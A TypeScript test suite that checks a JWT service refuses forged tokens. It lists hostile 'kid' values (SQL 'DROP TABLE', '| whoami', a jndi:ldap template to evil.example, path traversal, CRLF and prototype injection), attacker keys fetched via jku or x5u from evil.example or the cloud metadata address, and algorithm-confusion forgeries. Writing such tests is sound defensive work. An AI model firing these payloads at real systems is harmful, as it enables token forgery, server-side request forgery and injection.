import { createHmac, createPublicKey, generateKeyPairSync, sign } from 'node:crypto';
import { setTimeout as sleep } from 'node:timers/promises';
import { Changes } from '../../src/changes/changes.js';
import { signData } from '../../src/tokens/jwt/signature.js';
import { SigningKeys } from '../../src/tokens/keys/signing-keys.js';
import { encode, ownKey } from '../tokens/forge.js';
import { attacks, expectRefused, inEachPlace, present, type Attack, type Genuine, type Json } from './arena.js';

const KIDS: Record<string, unknown> = {
  'an unknown one': 'unknown',
  'an empty one': '',
  'the traversal of folders': '../../../../../../dev/null',
  'the traversal of folders, encoded': '..%2f..%2f..%2fdev%2fnull',
  'a path': '/proc/sys/kernel/randomize_va_space',
  'a file URL': 'file:///dev/null',
  'a URL': 'https://evil.example/key',
  'an injection into SQL': "x' UNION SELECT 'secret",
  'an injection into SQL that ends the statement': "'; DROP TABLE signing_keys; --",
  'an injection into a shell': '| whoami',
  'an injection into LDAP': '*)(kid=*',
  'a template': '${jndi:ldap://evil.example/a}',
  'a NUL': '\0',
  'a line break and a header': 'key\r\nset-cookie: a=b',
  'a property of objects': 'constructor',
  'a prototype': '__proto__',
  'a list': ['key'],
  'an object': { kid: 'key' },
  'an object that claims to be a text': { toString: 'key', valueOf: 'key' },
  'a number': 0,
  true: true,
  null: null,
  'ten kilobytes': 'k'.repeat(10_000),
  'five hundred characters': 'k'.repeat(500),
  'nothing at all': undefined,
};

/** A key of the attacker's, and what it signs. */
function stranger(header: Json, claims: Json): { jwk: Json; token: (more: Json) => string } {
  const { privateKey } = generateKeyPairSync('ec', { namedCurve: 'P-256' });
  const jwk = createPublicKey(privateKey).export({ format: 'jwk' }) as Json;
  const token = (more: Json): string => {
    const input = `${encode({ ...header, ...more })}.${encode(claims)}`;
    return `${input}.${sign('sha256', Buffer.from(input), { key: privateKey, dsaEncoding: 'ieee-p1363' }).toString('base64url')}`;
  };
  return { jwk, token };
}

attacks(
  'a kid',
  Object.fromEntries(
    Object.entries(KIDS).flatMap(([what, kid]): [string, Attack][] => [
      [`${what}, signed with our key`, ({ header, claims, signed }) => signed({ ...header, kid }, claims)],
      [
        `${what}, signed with an empty secret`,
        ({ header, claims }) => {
          const input = `${encode({ ...header, alg: 'HS256', kid })}.${encode(claims)}`;
          return `${input}.${createHmac('sha256', '').update(input).digest('base64url')}`;
        },
      ],
    ]),
  ),
);

attacks('a key that the token brings along', {
  'under our kid': ({ header, claims }) => stranger(header, claims).token({}),
  'embedded as jwk': ({ header, claims }) => {
    const { jwk, token } = stranger(header, claims);
    return token({ jwk });
  },
  'embedded as jwk, and no kid': ({ header, claims }) => {
    const { jwk, token } = stranger(header, claims);
    return token({ jwk, kid: undefined });
  },
  'embedded as jwk that names no alg': ({ header, claims }) => {
    const { jwk, token } = stranger(header, claims);
    return token({ jwk: { ...jwk, alg: undefined }, kid: 'own' });
  },
  'our own, embedded as jwk': ({ app, header, claims, signed }) =>
    signed({ ...header, jwk: ownKey(app).publicKey.export({ format: 'jwk' }) }, claims),
  'an embedded jwk that is empty, beside our signature': ({ header, claims, signed }) =>
    signed({ ...header, jwk: {} }, claims),
  jku: ({ header, claims }) => stranger(header, claims).token({ jku: 'https://evil.example/jwks.json' }),
  'jku on our own address, beside our signature': ({ app, header, claims, signed }) =>
    signed({ ...header, jku: `${app.url}/.well-known/jwks.json` }, claims),
  'jku on the cloud’s metadata service': ({ header, claims }) =>
    stranger(header, claims).token({ jku: 'http://169.254.169.254/latest/meta-data/' }),
  x5u: ({ header, claims }) => stranger(header, claims).token({ x5u: 'https://evil.example/cert.pem' }),
  x5c: ({ header, claims }) => stranger(header, claims).token({ x5c: ['MIIB'] }),
  'crit with a claim in it': ({ header, claims, signed }) => signed({ ...header, crit: ['exp'], exp: 1 }, claims),
  'crit that is empty': ({ header, claims, signed }) => signed({ ...header, crit: [] }, claims),
  'b64 false': ({ header, claims, signed }) => signed({ ...header, b64: false, crit: ['b64'] }, claims),
  zip: ({ header, claims, signed }) => signed({ ...header, zip: 'DEF' }, claims),
  enc: ({ header, claims, signed }) => signed({ ...header, enc: 'A256GCM' }, claims),
});

/** A published key that lost its `alg` verifies what it did before, and nothing more. */
inEachPlace('a key without alg in its JWK', 'RS256', (genuine) => {
  it('still verifies by the algorithm that it was made for only', async () => {
    const { app } = genuine();
    await change(genuine(), `UPDATE signing_keys SET public_jwk = public_jwk - 'alg' WHERE kid = $1`);
    await present(genuine(), genuine().signed(genuine().header, genuine().claims)).expect(200);
    const { publicKey } = ownKey(app);
    for (const alg of ['HS256', 'PS256', 'ES256', 'none']) {
      const input = `${encode({ ...genuine().header, alg })}.${encode(genuine().claims)}`;
      const secret = publicKey.export({ format: 'pem', type: 'spki' });
      await expectRefused(genuine(), `${input}.${createHmac('sha256', secret).update(input).digest('base64url')}`);
    }
  });
});

inEachPlace('a withdrawn key', 'ES256', (genuine) => {
  it('verifies nothing from when the change is in force: what it signed before, remembered or not, and what a thief signs', async () => {
    const { app, token, header, claims } = genuine();
    const { kid, algorithm, privateKey } = ownKey(app);
    const unseen = genuine().signed(header, { ...claims, jti: 'never shown before' });
    await present(genuine(), token).expect(200);
    await change(genuine(), `UPDATE signing_keys SET state = 'withdrawn' WHERE kid = $1`);
    expect(app.app.get(SigningKeys, { strict: false }).find(kid)).toBeUndefined();
    await expectRefused(genuine(), token);
    await expectRefused(genuine(), unseen);
    const input = `${encode(header)}.${encode({ ...claims, jti: 'made afterwards' })}`;
    await expectRefused(
      genuine(),
      `${input}.${signData(algorithm, privateKey, Buffer.from(input)).toString('base64url')}`,
    );
  });
});

/** Changes the app's key as the product does: through the change log, whose receipt is waited for. */
async function change({ app }: Genuine, statement: string): Promise<void> {
  const { kid } = ownKey(app);
  const keys = app.app.get(SigningKeys, { strict: false });
  const before = keys.find(kid);
  await app.app.get(Changes, { strict: false }).commit(async (transaction) => {
    await transaction.query(statement, [kid]);
    transaction.record('key', kid);
  });
  // Withdrawn at once; whether it comes back follows from reading it again.
  expect(keys.find(kid)).not.toBe(before);
  const [{ state } = { state: '' }] = await app.database.query<{ state: string }>(
    'SELECT state FROM signing_keys WHERE kid = $1',
    [kid],
  );
  while (state !== 'withdrawn' && keys.find(kid) === undefined) await sleep(5);
}
